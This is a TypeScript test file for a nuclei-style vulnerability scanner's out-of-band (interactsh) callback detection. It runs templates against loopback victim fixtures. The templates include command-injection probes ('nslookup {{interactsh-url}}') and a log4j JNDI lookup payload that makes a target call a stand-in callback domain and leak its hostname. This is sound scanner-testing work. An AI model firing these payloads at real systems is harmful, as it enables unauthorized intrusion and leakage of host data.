import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createNodeHttpSender,
  createNodeNetworkConnector,
  parseTemplate,
  runDnsTemplatesDetailed,
  runNetworkTemplates,
  runTemplateTask,
  runTemplatesDetailed,
  type NucleiTemplate,
} from '../../src/scanner/nuclei/index.js';
import { OAST_NOT_CONFIGURED } from '../../src/scanner/nuclei/oast.js';
import { createDnsResolver } from '../../src/scanner/nuclei/dns-resolver.js';
import { createOastClient, type OastClientHandle } from '../../src/oast/client.js';
import { OAST_DOMAIN, startOast, startTcpVictim, startVictim, type OastFixture, type VictimServer } from '../oast/fixtures.js';

/**
 * Templates using `{{interactsh-url}}` run as nuclei runs them: each request gets its own OAST URL, a loopback
 * "vulnerable" server calls it back (DNS and/or HTTP), and matchers on interactsh_protocol / interactsh_request
 * decide once the interactions arrive within the cooldown. A server that never calls back gives nothing.
 */

const COOLDOWN_MS = 400;
const sender = createNodeHttpSender();
let oast: OastFixture;
let victim: VictimServer;
let client: OastClientHandle;
let tcp: Awaited<ReturnType<typeof startTcpVictim>>;

beforeAll(async () => {
  oast = await startOast();
  victim = await startVictim(oast.service);
  tcp = await startTcpVictim(oast.service);
  client = createOastClient({ pubsub: oast.pubsub, domain: OAST_DOMAIN, cooldownMs: COOLDOWN_MS, refreshMs: 60_000 });
});

afterAll(async () => {
  sender.destroy();
  await client?.close();
  await victim?.close();
  await tcp?.close();
  await oast?.stop();
});

function template(yaml: string): NucleiTemplate {
  const { template, errors, warnings } = parseTemplate(yaml);
  expect(errors).toEqual([]);
  // interactsh is no longer a cause of warnings
  expect(warnings).toEqual([]);
  return template!;
}

const head = (id: string) => `id: ${id}
info:
  name: ${id}
  author: tests
  severity: high
`;

const run = (t: NucleiTemplate, withOast = true) =>
  runTemplatesDetailed([t], { baseUrl: victim.baseUrl }, { send: sender, ...(withOast ? { oast: client, oastCooldownMs: COOLDOWN_MS } : {}) });

const DNS_PROBE = template(`${head('oast-dns')}http:
  - method: GET
    path: ["{{BaseURL}}/dns?u={{interactsh-url}}&again={{interactsh-url}}"]
    matchers:
      - type: word
        part: interactsh_protocol
        words: ["dns"]
`);

describe('OAST in the engine', { timeout: 30_000 }, () => {
  it('matches interactsh_protocol dns when the target resolves the URL', async () => {
    const before = victim.seen.length;
    const out = await run(DNS_PROBE);
    expect(out.warnings).toEqual([]);
    expect(out.results).toHaveLength(1);
    expect(out.results[0]).toMatchObject({ templateId: 'oast-dns' });
    expect(out.results[0].matchedUrl).toMatch(new RegExp(`^${victim.baseUrl}/dns\\?u=[a-z0-9]{33}\\.oast\\.test&again=`));
    // both markers of the request had one value
    const url = new URL(out.results[0].matchedUrl);
    expect(url.searchParams.get('u')).toBe(url.searchParams.get('again'));
    expect(victim.seen.slice(before)).toEqual([url.searchParams.get('u')]);
  });

  it('needs every matcher under matchers-condition and: status, interactsh_protocol http and interactsh_request', async () => {
    const t = template(`${head('oast-http-and')}http:
  - raw:
      - |
        POST /http HTTP/1.1
        Host: {{Hostname}}
        X-Callback: http://{{interactsh-url}}/cb
        Content-Type: text/plain

        ping
    matchers-condition: and
    matchers:
      - type: status
        status: [200]
      - type: word
        part: interactsh_protocol
        words: ["http"]
      - type: dsl
        dsl: ['contains(interactsh_request, "victim/1.0") && interactsh_ip == "127.0.0.1"']
`);
    const out = await run(t);
    expect(out.results).toHaveLength(1);
    // the same template, with one matcher the interaction cannot satisfy, gives nothing
    const strict = template(
      `${head('oast-http-strict')}http:
  - method: GET
    path: ["{{BaseURL}}/http?u={{interactsh-url}}"]
    matchers-condition: and
    matchers:
      - type: word
        part: interactsh_protocol
        words: ["http"]
      - type: word
        part: interactsh_request
        words: ["never-sent-header"]
`,
    );
    expect((await run(strict)).results).toEqual([]);
  });

  it('gives nothing when the target does not call back, after waiting the cooldown', async () => {
    const quiet = template(`${head('oast-quiet')}http:
  - method: GET
    path: ["{{BaseURL}}/quiet?u={{interactsh-url}}"]
    matchers:
      - type: word
        part: interactsh_protocol
        words: ["dns"]
`);
    const began = Date.now();
    const out = await run(quiet);
    expect(out.results).toEqual([]);
    expect(Date.now() - began).toBeGreaterThanOrEqual(COOLDOWN_MS - 20);
  });

  it('gives variables using interactsh-url one URL per request', async () => {
    const before = victim.seen.length;
    const t = template(`${head('oast-vars')}variables:
  oast: "{{interactsh-url}}"
  payload: "nslookup {{oast}}"
http:
  - method: POST
    path: ["{{BaseURL}}/dns-one", "{{BaseURL}}/dns-two"]
    body: "{{payload}}"
    matchers:
      - type: dsl
        dsl: ['contains(interactsh_protocol, "dns")']
`);
    const out = await run(t);
    // one result per request whose own URL was resolved (distinct URLs, so distinct interactions)
    expect(out.results.map((r) => r.matchedUrl).sort()).toEqual([`${victim.baseUrl}/dns-one`, `${victim.baseUrl}/dns-two`]);
    const seen = victim.seen.slice(before);
    expect(seen).toHaveLength(2);
    expect(seen[0]).not.toBe(seen[1]);
  });

  it('evaluates matchers that do not read interactions as before', async () => {
    const t = template(`${head('oast-plain')}http:
  - method: GET
    path: ["{{BaseURL}}/quiet?u={{interactsh-url}}"]
    matchers:
      - type: word
        words: ["ok"]
`);
    const out = await run(t);
    expect(out.results).toHaveLength(1);
  });

  it('skips a template using OAST when no client is given, with the reason, and sends nothing', async () => {
    const before = victim.seen.length;
    const out = await run(DNS_PROBE, false);
    expect(out.results).toEqual([]);
    expect(out.stats.templatesSkipped).toBe(1);
    expect(out.warnings.map((w) => w.message)).toEqual([`template skipped: ${OAST_NOT_CONFIGURED}`]);
    expect(victim.seen.length).toBe(before);
  });

  it('runs in the template worker pool: URLs minted in the worker, interactions awaited on the main thread', async () => {
    const outcome = await runTemplateTask({ template: DNS_PROBE, baseUrl: victim.baseUrl, send: sender, budgetMs: 10_000, oast: client });
    expect(outcome).toMatchObject({ status: 'done', results: [{ templateId: 'oast-dns' }] });
    const quiet = await runTemplateTask({
      template: { ...DNS_PROBE, requests: DNS_PROBE.requests.map((b) => ({ ...b, paths: ['{{BaseURL}}/quiet?u={{interactsh-url}}'] })) },
      baseUrl: victim.baseUrl,
      send: sender,
      budgetMs: 10_000,
      oast: client,
    });
    expect(quiet).toMatchObject({ status: 'done', results: [] });
  });

  it('runs network blocks: a variable using interactsh-url in an input, dsl on interactsh_protocol', async () => {
    const network = (id: string, word: string) =>
      template(`${head(id)}variables:
  cmd: "nslookup {{interactsh-url}} ${word}"
tcp:
  - host: ["{{Hostname}}"]
    inputs:
      - data: "{{cmd}}\\n"
    matchers-condition: and
    matchers:
      - type: word
        words: ["220"]
      - type: dsl
        dsl: ['contains(interactsh_protocol, "dns")']
`);
    const connect = createNodeNetworkConnector();
    const target = { host: '127.0.0.1', port: tcp.port };
    const deps = { connect, oast: client, oastCooldownMs: COOLDOWN_MS, readTimeoutMs: 2_000 };
    const found = await runNetworkTemplates([network('oast-tcp', 'loud')], target, deps);
    expect(found.warnings).toEqual([]);
    expect(found.results.map((r) => r.templateId)).toEqual(['oast-tcp']);
    expect((await runNetworkTemplates([network('oast-tcp-quiet', 'quiet')], target, deps)).results).toEqual([]);
    const off = await runNetworkTemplates([network('oast-tcp-off', 'loud')], target, { connect });
    expect(off.warnings.map((w) => w.message)).toEqual([`template skipped: ${OAST_NOT_CONFIGURED}`]);
  });

  it('runs dns blocks: a question for the OAST name reaches the DNS listener (as through a recursive resolver)', async () => {
    const resolver = createDnsResolver({ servers: [`127.0.0.1:${oast.service.dnsPort}`], timeoutMs: 1_000 });
    try {
      const t = template(`${head('oast-dns-block')}dns:
  - name: "{{interactsh-url}}"
    type: A
    matchers-condition: and
    matchers:
      - type: word
        part: interactsh_protocol
        words: ["dns"]
      - type: word
        part: interactsh_request
        words: ["IN\t A"]
`);
      const found = await runDnsTemplatesDetailed([t], { host: 'example.test' }, { resolver, oast: client, oastCooldownMs: COOLDOWN_MS });
      expect(found.warnings).toEqual([]);
      expect(found.results.map((r) => r.templateId)).toEqual(['oast-dns-block']);
      const off = await runDnsTemplatesDetailed([t], { host: 'example.test' }, { resolver });
      expect(off.warnings.map((w) => w.message)).toEqual([`template skipped: ${OAST_NOT_CONFIGURED}`]);
    } finally {
      resolver.close();
    }
  });

  it('runs a log4j-style template: a lookup under the URL (any label depth), regex and kval on the interaction', async () => {
    const t = template(`${head('oast-log4j')}variables:
  a: '{{rand_int(111, 999)}}'
  b: '{{rand_int(111, 999)}}'
http:
  - raw:
      - |
        POST /log4j/login HTTP/1.1
        Host: {{Hostname}}
        Content-Type: application/x-www-form-urlencoded

        user=\${jndi:ldap://\${:-{{a}}}\${:-{{b}}}.\${hostName}.user.{{interactsh-url}}/x}&go=1
    matchers-condition: and
    matchers:
      - type: word
        part: interactsh_protocol
        words: ["dns"]
      - type: regex
        part: interactsh_request
        regex: ['\\d{6}\\.([a-zA-Z0-9.-]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.\\w+']
    extractors:
      - type: kval
        kval: [interactsh_ip]
      - type: regex
        group: 1
        part: interactsh_request
        regex: ['\\d{6}\\.([a-zA-Z0-9.-]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.\\w+']
`);
    const out = await run(t);
    expect(out.warnings).toEqual([]);
    expect(out.results).toHaveLength(1);
    expect(out.results[0].extractedResults).toEqual(['127.0.0.1', 'victim-host']);
  });

  it('still correlates a request that got no answer (the payload ran, the connection dropped), as nuclei', async () => {
    const t = template(`${head('oast-hang')}http:
  - method: GET
    path: ["{{BaseURL}}/hang?u={{interactsh-url}}"]
    matchers:
      - type: word
        part: interactsh_protocol
        words: ["dns"]
`);
    const out = await run(t);
    expect(out.warnings.map((w) => w.message)).toEqual([expect.stringMatching(/^request GET .*\/hang\?u=.* failed: /)]);
    expect(out.results).toHaveLength(1);
    expect(out.results[0].request).toMatch(/^GET http:\/\/127\.0\.0\.1:\d+\/hang\?u=[a-z0-9]{33}\.oast\.test/);
    expect(out.results[0].response).toBe('');
  });
});
